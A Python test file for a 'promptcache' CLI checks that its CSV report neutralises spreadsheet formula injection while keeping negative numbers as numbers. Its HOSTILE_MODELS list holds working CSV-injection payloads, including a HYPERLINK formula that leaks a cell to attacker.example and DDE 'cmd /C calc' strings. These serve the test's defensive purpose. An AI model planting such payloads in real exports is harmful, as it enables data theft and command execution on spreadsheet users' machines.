"""`promptcache report --format csv` never writes a cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import httpx
from click.testing import CliRunner
from proxy_support import RunningProxy
from servers import ServerThread

from promptcache.cli import cli
from promptcache.proxy.config import UpstreamConfig

#: Model names a client can send; each starts with a character OWASP lists as a formula trigger.
HOSTILE_MODELS = (
    '=HYPERLINK("http://attacker.example/?leak="&A1,"report")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
#: Not a trigger first, but a bare CR would start a new row with ``=1+1`` unless quoted.
SPLIT_MODEL = "gpt-4o\r=1+1"


def test_text_cells_are_neutralised_and_numbers_are_not(
    start_proxy: Callable[..., RunningProxy], mock_server: ServerThread
) -> None:
    openai = UpstreamConfig(name="openai", url=mock_server.url, vendor="openai", price_as="gpt-5")
    proxy = start_proxy(upstreams={"openai": openai})
    for model in (*HOSTILE_MODELS, SPLIT_MODEL):
        reply = httpx.post(
            proxy.url + "/v1/chat/completions", json={"model": model, "messages": []}
        )
        assert reply.status_code == 200
    # a 1h cache write and no read: this group's net savings are negative
    reply = httpx.post(
        proxy.url + "/v1/messages",
        json={"model": "claude-sonnet-4-5", "max_tokens": 16, "messages": []},
        headers={"x-mock-case": "cache_write_1h"},
    )
    assert reply.status_code == 200
    proxy.rows(len(HOSTILE_MODELS) + 2)

    result = CliRunner().invoke(
        cli, ["report", "--db", str(proxy.db_path), "--format", "csv", "--group-by", "model"]
    )
    assert result.exit_code == 0, result.output
    rows = {row["group"]: row for row in csv.DictReader(io.StringIO(result.output, newline=""))}
    assert set(rows) == {"'" + m for m in HOSTILE_MODELS} | {
        SPLIT_MODEL,
        "claude-sonnet-4-5",
        "(total)",
    }
    for model in HOSTILE_MODELS:
        assert rows["'" + model]["priced_as"] == f"'{model}=gpt-5"
    assert rows["(total)"]["priced_as"].startswith("'")  # "model=rates; ..." of them all
    savings = rows["claude-sonnet-4-5"]["net_savings_usd"]
    assert savings.startswith("-") and float(savings) < 0  # a negative number stays a number
    for row in rows.values():
        for cell in row.values():
            assert not cell.startswith(("=", "+", "@", "\t", "\r"))
            assert not cell.startswith("-") or float(cell) < 0
